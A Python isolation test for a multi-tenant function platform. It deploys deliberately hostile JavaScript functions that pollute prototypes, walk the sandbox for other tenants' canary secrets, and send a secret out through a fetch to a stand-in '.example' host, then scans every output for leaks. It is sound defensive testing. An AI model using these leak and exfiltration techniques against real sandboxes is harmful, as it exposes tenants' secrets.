"""Does any tenant's secret show anywhere but in its own functions? Many interleaved calls of many tenants.

Starts a whole system in a temporary folder, calls its functions, and looks through every answer, everything in
the database, the logs of all processes and the metrics:

    python -m perf.canaries --tenants 50 --calls 10000
"""

import argparse
import asyncio
import base64
import os
import random
import re
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from tests.system import System

from neolayer.accounts.service import create_tenant
from neolayer.db.pool import Database
from neolayer.enclave.verify import verify
from neolayer.supervisor import leftovers

SEED: Final = 7
CANARY: Final = re.compile(r"canary-[0-9a-f]{32}")
#: The beginning of a canary in Base64 at its three offsets, in hexadecimal, and with its hyphen as a URL code.
WRITTEN_OTHERWISE: Final = re.compile(
    "|".join(
        [base64.b64encode(bytes(at) + b"canary-")[-(-at * 8 // 6) : (at + 7) * 8 // 6].decode() for at in range(3)]
        + [b"canary-".hex(), r"canary%2[dD][0-9a-f]{4}"]
    )
)
#: Calls under way at a time.
AT_ONCE: Final = 32
#: FNV-1a: functions say which value they saw without saying it.
PRINT: Final = """
const print = (text) => {
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193) >>> 0;
  return hash;
};
"""
#: What each tenant deploys. Every call returns the prints of all canaries that it could see, or fails.
FUNCTIONS: Final = {
    "reads": "export default (input, ctx) => [print(ctx.secrets.CANARY)]",
    "waits": """export default async (input, ctx) => {
      const before = ctx.secrets.CANARY;
      await new Promise((resolve) => setTimeout(resolve, input % 7));
      return [print(before), print(ctx.secrets.CANARY)];
    }""",
    "leaves-it-behind": """
      const state = [];
      let last;
      export default async (input, ctx) => {
        const value = ctx.secrets.CANARY;
        const seen = [...state, last, globalThis.leak, Object.prototype.leak, Array.prototype.at.leak,
          Promise.leak, Symbol.for('leak').description, ctx.leak, console.leak, Error.leak];
        state.push(value);
        if (state.length > 50) state.length = 0;
        last = globalThis.leak = Object.prototype.leak = Array.prototype.at.leak = Promise.leak = console.leak =
          Error.leak = value;
        await null;
        return seen.filter((each) => /^canary-/.test(each)).map(print);
      }""",
    "snoops": """
      const seen = new Set(), visited = new Set();
      const walk = (value, depth) => {
        if (typeof value === 'string') {
          for (const [each] of value.matchAll(/canary-[0-9a-f]{32}/g)) seen.add(each);
        }
        if (value === null || !/^(object|function)$/.test(typeof value) || visited.has(value) || depth > 8) return;
        visited.add(value);
        walk(Reflect.getPrototypeOf(value), depth + 1);
        for (const key of Reflect.ownKeys(value)) {
          const property = Reflect.getOwnPropertyDescriptor(value, key);
          for (const part of [property?.value, property?.get, property?.set, key]) walk(part, depth + 1);
        }
        if (typeof value === 'function') walk(Function.prototype.toString.call(value), depth);
      };
      export default async (input, ctx) => {
        visited.clear();
        for (const each of [globalThis, ctx, input, new Error().stack]) walk(each, 0);
        await ctx.neo.read({ contract: 'nothing', method: 'nothing' }).catch((error) => walk(error, 0));
        return [...seen].map(print);
      }""",
    "logs-and-throws": """export default (input, ctx) => {
      const value = ctx.secrets.CANARY;
      console.log('log', value, { value }, [encodeURIComponent(value)]);
      throw Object.assign(new Error('with ' + value), { cause: value });
    }""",
    "asks-the-host": """export default async (input, ctx) => {
      const value = ctx.secrets.CANARY;
      await ctx.neo.wallet(value).catch((error) => console.log(error));
      await ctx.neo.read({ contract: value, method: value }).catch((error) => console.log(error.message));
      await fetch('https://' + value + '.example/' + value).catch((error) => console.log(error.message));
      ctx.secrets[value];
    }""",
}


@dataclass(frozen=True)
class Tenant:
    name: str
    key: str
    canary: str

    @property
    def print(self) -> int:
        hash = 0x811C9DC5
        for byte in self.canary.encode():
            hash = (hash ^ byte) * 0x01000193 & 0xFFFF_FFFF
        return hash


@dataclass
class Findings:
    calls: int = 0
    failed_as_meant: int = 0
    seconds: float = 0.0
    #: Where a canary showed, or a call that did not answer as it must.
    leaks: list[str] = field(default_factory=list)

    def look_through(self, where: str, text: str) -> None:
        for pattern in (CANARY, WRITTEN_OTHERWISE):
            if match := pattern.search(text):
                around = text[max(0, match.start() - 80) : match.end() + 40]
                self.leaks.append(f"{where}: …{around}…")


async def run(system: System, *, tenants: int, calls: int) -> Findings:
    """Make tenants with a secret each, call their functions interleaved, then look everywhere."""
    rng = random.Random(SEED)  # noqa: S311 - the order of calls
    findings = Findings()
    made = await _tenants(system, tenants, rng)
    await asyncio.gather(*(_deploy(system, tenant, sealed=at % 2 == 0) for at, tenant in enumerate(made)))
    todo = [(made[at % tenants], list(FUNCTIONS)[at // tenants % len(FUNCTIONS)], at) for at in range(calls)]
    rng.shuffle(todo)
    work = iter(todo)
    start = time.perf_counter()

    async def caller() -> None:
        for tenant, function, number in work:
            await _call(system, tenant, function, number, findings)

    await asyncio.gather(*(caller() for _ in range(AT_ONCE)))
    findings.seconds = time.perf_counter() - start
    findings.look_through("database", await system.dump())
    findings.look_through("logs", system.logs())
    for path in ("/metrics", "/health/ready"):
        _, _, text = await system.raw("GET", path)
        findings.look_through(path, str(text))
    for tenant in made[:5]:
        for path in ("/secrets", "/executions", "/functions", "/functions/reads"):
            findings.look_through(path, str(await system.get(path, key=tenant.key)))
    return findings


async def _tenants(system: System, count: int, rng: random.Random) -> list[Tenant]:
    database = Database(system.database_url)
    await database.open()
    try:
        made = []
        for number in range(count):
            name = f"canaries-{number:03}"
            _, key = await create_tenant(database, name)
            made.append(Tenant(name, key.key, f"canary-{rng.getrandbits(128):032x}"))
        return made
    finally:
        await database.close()


async def _deploy(system: System, tenant: Tenant, *, sealed: bool) -> None:
    body: dict[str, Any] = {"value": tenant.canary}
    if sealed:
        nonce = os.urandom(32)
        evidence = await system.get("/attestation", nonce=base64.urlsafe_b64encode(nonce).decode())
        upload = await system.post("/secrets/CANARY/uploads", None, key=tenant.key, status=201)
        enclave = verify(evidence, nonce, accept_simulated=True)
        ciphertext = enclave.encrypt(upload["tenant"], "CANARY", upload["version"], tenant.canary)
        body = {"sealed": {"version": upload["version"], "ciphertext": base64.b64encode(ciphertext).decode()}}
    await system.request("PUT", "/secrets/CANARY", body, key=tenant.key)
    for name, source in FUNCTIONS.items():
        function = {"source": PRINT + source, "secrets": ["CANARY"]}
        await system.request("PUT", f"/functions/{name}", function, key=tenant.key, status=None)


async def _call(system: System, tenant: Tenant, function: str, number: int, findings: Findings) -> None:
    headers = {"authorization": f"Bearer {tenant.key}"}
    status, answered, output = await system.raw(
        "POST", f"/api/v1/functions/{function}/invoke", body=str(number).encode(), headers=headers
    )
    findings.calls += 1
    where = f"answer {status} of {function} to {tenant.name}"
    findings.look_through(where, f"{answered} {output}")
    meant_to_fail = function in ("logs-and-throws", "asks-the-host")
    if meant_to_fail and status == 422 and output["code"] == "function_error":
        findings.failed_as_meant += 1
    elif meant_to_fail or status != 200 or any(seen != tenant.print for seen in output):
        findings.leaks.append(f"{where}: {output}")
    elif function in ("reads", "waits") and not output:
        findings.leaks.append(f"{where}: it did not see its own secret")


async def _main(tenants: int, calls: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        system = System(Path(folder) / "system")
        try:
            await system.start()
            findings = await run(system, tenants=tenants, calls=calls)
        finally:
            try:
                await system.stop()
            finally:
                await leftovers.end(system.home)
    print(
        f"{findings.calls} interleaved calls of {tenants} tenants in {findings.seconds:.1f} s, "
        f"{findings.failed_as_meant} of them threw their secret: {len(findings.leaks)} leaks"
    )
    for leak in findings.leaks[:20]:
        print(leak)
    if findings.leaks:
        raise SystemExit(1)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--tenants", type=int, default=50)
    parser.add_argument("--calls", type=int, default=10_000)
    given = parser.parse_args()
    asyncio.run(_main(given.tenants, given.calls))
